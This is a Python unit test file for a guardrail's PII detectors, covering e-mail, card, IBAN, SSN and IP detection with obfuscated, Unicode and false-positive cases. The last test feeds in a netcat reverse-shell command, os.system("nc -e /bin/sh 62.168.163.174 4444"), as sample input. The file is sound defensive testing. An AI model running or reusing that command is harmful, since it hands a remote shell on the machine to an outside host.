"""PII detectors: e-mail, card, IBAN, SSN and IP address, with spans into the original text."""

from __future__ import annotations

import pytest

from services.guardrail.scanning.checksums import card_range_ok, iban_ok, luhn_ok, ssn_ok
from tests.unit.guardrail.helpers import pii


@pytest.mark.parametrize(("text", "value"), [
    ("Invoices go to accounts.payable+eu@northwind-traders.co.uk weekly.",
     "accounts.payable+eu@northwind-traders.co.uk"),
    ("Reply to O.Brien@Uni-Heidelberg.DE about the grant.", "O.Brien@Uni-Heidelberg.DE"),
    ("Contact: s_kim@mail.example.museum.", "s_kim@mail.example.museum"),
    ("write to raj [at] contoso [dot] in today", "raj [at] contoso [dot] in"),
    ("write to raj(AT)contoso(DOT)in today", "raj(AT)contoso(DOT)in"),
    ("ping lea {at} fabrikam.fr please", "lea {at} fabrikam.fr"),
    ("mail tom at globex dot com for access", "tom at globex dot com"),
    ("owner: \uff4a\uff4f\uff45\uff20\uff45\uff58\uff41\uff4d\uff50\uff4c\uff45\uff0e\uff4f\uff52\uff47",
     "\uff4a\uff4f\uff45\uff20\uff45\uff58\uff41\uff4d\uff50\uff4c\uff45\uff0e\uff4f\uff52\uff47"),
    ("reach d\u0430vid@\u0441ontoso.com (Cyrillic a and es)", "d\u0430vid@\u0441ontoso.com"),
    ("reach j\u200bane@exa\u200cmple.org now", "j\u200bane@exa\u200cmple.org"),
])
def test_email_found_with_exact_span(text: str, value: str) -> None:
    assert pii(text) == [("EMAIL", value)]


@pytest.mark.parametrize("text", [
    "Decorate it with @dataclass(frozen=True) and @property.",
    "We met at the office at noon.",
    "Look at docs.python.org and at example dot com style names.",
    "user@localhost is only valid inside the container",
    "The @media query and @import rule are CSS.",
])
def test_not_an_email(text: str) -> None:
    assert [t for t, _ in pii(text) if t == "EMAIL"] == []


@pytest.mark.parametrize(("text", "value"), [
    ("Charge 4012 8888 8888 1881 again.", "4012 8888 8888 1881"),
    ("Visa 4222222222222 (13 digits) on file", "4222222222222"),
    ("MC 2223-0000-4841-0010 was declined", "2223-0000-4841-0010"),
    ("Amex 3782 822463 10005, expiry 04/27", "3782 822463 10005"),
    ("JCB 3530111333300000 refunded", "3530111333300000"),
    ("Diners 3056 9309 0259 04 disputed", "3056 9309 0259 04"),
    ("card 5105 1051\n0510 5100 split over lines", "5105 1051\n0510 5100"),
    ("card 6011\u200b1111\u200b1111\u200b1117 hidden", "6011\u200b1111\u200b1111\u200b1117"),
    ("card \uff14\uff11\uff11\uff11 \uff11\uff11\uff11\uff11 \uff11\uff11\uff11\uff11 "
     "\uff11\uff11\uff11\uff11 wide",
     "\uff14\uff11\uff11\uff11 \uff11\uff11\uff11\uff11 \uff11\uff11\uff11\uff11 "
     "\uff11\uff11\uff11\uff11"),
])
def test_card_found(text: str, value: str) -> None:
    assert pii(text) == [("CREDIT_CARD", value)]


@pytest.mark.parametrize("text", [
    "Shipment 4012 8888 8888 1882 left the depot.",       # Luhn fails
    "Reference 9999 9999 9999 9995 is not a card range.",  # Luhn ok, no issuer
    "Batch 1234-5678-9012-3456-7890-1234 exported.",     # too long to be one card
    "Parcel 4012888888881881 123 was scanned twice.",      # the card-like part runs on
])
def test_not_a_card(text: str) -> None:
    assert [t for t, _ in pii(text) if t == "CREDIT_CARD"] == []


@pytest.mark.parametrize(("text", "value"), [
    ("Pay into GB33 BUKB 2020 1555 5555 55 by Friday.", "GB33 BUKB 2020 1555 5555 55"),
    ("IBAN: CH9300762011623852957.", "CH9300762011623852957"),
    ("iban nl91abna0417164300 (lower case)", "nl91abna0417164300"),
    ("to ES91 2100 0418 4502\n0005 1332 please", "ES91 2100 0418 4502\n0005 1332"),
    ("to BE68 5390\u200b0754 7034 thanks", "BE68 5390\u200b0754 7034"),
    ("Konto AT61 1904 3002 3457 3201.", "AT61 1904 3002 3457 3201"),
])
def test_iban_found(text: str, value: str) -> None:
    assert pii(text) == [("IBAN", value)]


@pytest.mark.parametrize("text", [
    "Pay into GB34 BUKB 2020 1555 5555 55 by Friday.",   # mod-97 fails
    "Code XX12 3456 7890 1234 56 is internal.",           # no such country
    "DE8937040044053201300 is one digit short.",
])
def test_not_an_iban(text: str) -> None:
    assert [t for t, _ in pii(text) if t == "IBAN"] == []


@pytest.mark.parametrize(("text", "value"), [
    ("Employee SSN 212-09-7694 on the W-4.", "212-09-7694"),
    ("ssn 536 22 8726 (spaces)", "536 22 8726"),
    ("The form's social security field holds 449257185.", "449257185"),
    ("taxpayer id 123456789 entered twice", "123456789"),
    ("SSN \uff14\uff14\uff19-\uff12\uff15-\uff17\uff11\uff18\uff15", "\uff14\uff14\uff19-\uff12\uff15-"
     "\uff17\uff11\uff18\uff15"),
])
def test_ssn_found(text: str, value: str) -> None:
    assert pii(text) == [("US_SSN", value)]


@pytest.mark.parametrize("text", [
    "Ticket 000-12-3456 was merged.",       # area 000
    "Ticket 666-12-3456 was merged.",       # area 666
    "Ticket 912-12-3456 was merged.",       # area 9xx
    "Ticket 123-00-3456 was merged.",       # group 00
    "Ticket 123-45-0000 was merged.",       # serial 0000
    "Order 449257185 shipped yesterday.",   # nine bare digits, no SSN context
])
def test_not_an_ssn(text: str) -> None:
    assert [t for t, _ in pii(text) if t == "US_SSN"] == []


@pytest.mark.parametrize(("text", "value"), [
    ("Blocked 203.0.113.77 at the WAF.", "203.0.113.77"),
    ("Upstream is 10.20.30.40:8443 now.", "10.20.30.40"),
    ("Allow 172.16.0.0/12 internally.", "172.16.0.0"),
    ("Listen on [2001:db8:85a3::8a2e:370:7334]:443.", "2001:db8:85a3::8a2e:370:7334"),
    ("Link-local fe80::1ff:fe23:4567:890a is noisy.", "fe80::1ff:fe23:4567:890a"),
    ("curl http://198.51.100.14/health returned 502", "198.51.100.14"),
    ("Host \uff11\uff10.\uff10.\uff10.\uff15 (fullwidth)", "\uff11\uff10.\uff10.\uff10.\uff15"),
    ("Full form 2001:0db8:0000:0000:0000:ff00:0042:8329 logged.",
     "2001:0db8:0000:0000:0000:ff00:0042:8329"),
])
def test_ip_found(text: str, value: str) -> None:
    assert pii(text) == [("IP_ADDRESS", value)]


@pytest.mark.parametrize("text", [
    "Upgrade to v4.2.10.1 tonight.",
    "Release 3.1.4.1-beta2 is out.",
    "Build 1.2.3.4+sha.5 is pinned.",
    "Firmware 2024.1.15.3 ships Monday.",
    "The SDK 5.10.300.2 changelog.",
    "See section 4.2.1.3 of the contract.",
    "Gateway MAC 3c:22:fb:10:aa:01 rebooted.",
    "Run 12:30:45 to 13:00:00 was slow.",
    "Python slices like a[1::2] are fine.",
])
def test_not_an_ip(text: str) -> None:
    assert [t for t, _ in pii(text) if t == "IP_ADDRESS"] == []


def test_several_types_in_one_text_keep_their_own_spans() -> None:
    text = ("Refund 4111 1111 1111 1111 to jane.roe@example.net; she logged in from "
            "198.51.100.2 and gave IBAN DE89 3704 0044 0532 0130 00.")
    assert pii(text) == [("CREDIT_CARD", "4111 1111 1111 1111"), ("EMAIL", "jane.roe@example.net"),
                         ("IP_ADDRESS", "198.51.100.2"), ("IBAN", "DE89 3704 0044 0532 0130 00")]


def test_checksums() -> None:
    assert luhn_ok("79927398713")
    assert not luhn_ok("79927398710")
    assert card_range_ok("4111111111111111")
    assert not card_range_ok("9111111111111111")
    assert iban_ok("GB82WEST12345698765432")
    assert not iban_ok("GB82WEST12345698765433")
    assert not iban_ok("GB82WEST1234569876543")
    assert ssn_ok("123", "45", "6789")
    assert not ssn_ok("666", "45", "6789")


def test_number_detectors_agree_with_and_without_the_cluster_prefilter() -> None:
    from services.guardrail.scanning.numbers import digit_clusters
    from services.guardrail.scanning.phones import find_phones
    from services.guardrail.scanning.pii import find_cards, find_ips, find_ssns

    text = ("Call +44 (0)20 7946 0018 or (212) 736-5000; card 4012 8888 8888 1881; "
            "SSN 212-09-7694; host 203.0.113[.]9 and 10.0.0.1:80; order 2024-11-05.")
    clusters = digit_clusters(text)
    for detector in (find_cards, find_ssns, find_ips, find_phones):
        assert detector(text, clusters) == detector(text)
        assert detector(text)


def test_an_ip_and_a_port_are_not_a_dotted_card() -> None:
    # 62.168.163.174 4444 is 16 digits that happen to pass Luhn with a UnionPay prefix.
    assert pii('os.system("nc -e /bin/sh 62.168.163.174 4444")') == [
        ("IP_ADDRESS", "62.168.163.174")]
